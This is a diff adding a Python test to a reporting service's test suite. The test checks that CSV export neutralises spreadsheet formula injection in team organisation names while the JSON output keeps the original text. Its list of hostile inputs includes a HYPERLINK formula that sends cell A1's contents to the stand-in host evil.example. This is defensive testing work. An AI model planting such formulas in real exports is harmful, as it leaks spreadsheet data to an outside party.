@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from datetime import timedelta
 
@@ -169,3 +171,31 @@ async def test_min_position_waits_for_a_write_that_lands_during_the_wait(
         answer = await waiting
     assert answer.status_code == 200
     assert answer.json()["freshness"]["position"] == written == last + 1
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+]
+
+
+async def test_csv_cells_cannot_start_a_formula(
+    service: Reporting, store: EventStore, rsettings: Settings
+) -> None:
+    """Given teams whose organisation starts like a spreadsheet formula, the CSV quotes each such
+    cell with a leading apostrophe (OWASP), while the JSON keeps the text as recorded."""
+    log = generate(rsettings.hub, volunteers=40, teams=len(HOSTILE), days=1)
+    formed = [env for _, env in log if env.event_type == "registry.team_formed"]
+    for env, text in zip(formed, HOSTILE, strict=True):
+        env.data["organisation"] = text
+    last = await publish(store, log)
+    async with client(service) as http:
+        body = await http.get("/v1/teams", params={"format": "csv", "min_position": last})
+        page = (await http.get("/v1/teams", params={"min_position": last})).json()
+    cells = [row["organisation"] for row in csv.DictReader(io.StringIO(body.text, newline=""))]
+    assert sorted(cells) == sorted("'" + text for text in HOSTILE)
+    assert sorted(t["organisation"] for t in page["items"]) == sorted(HOSTILE)
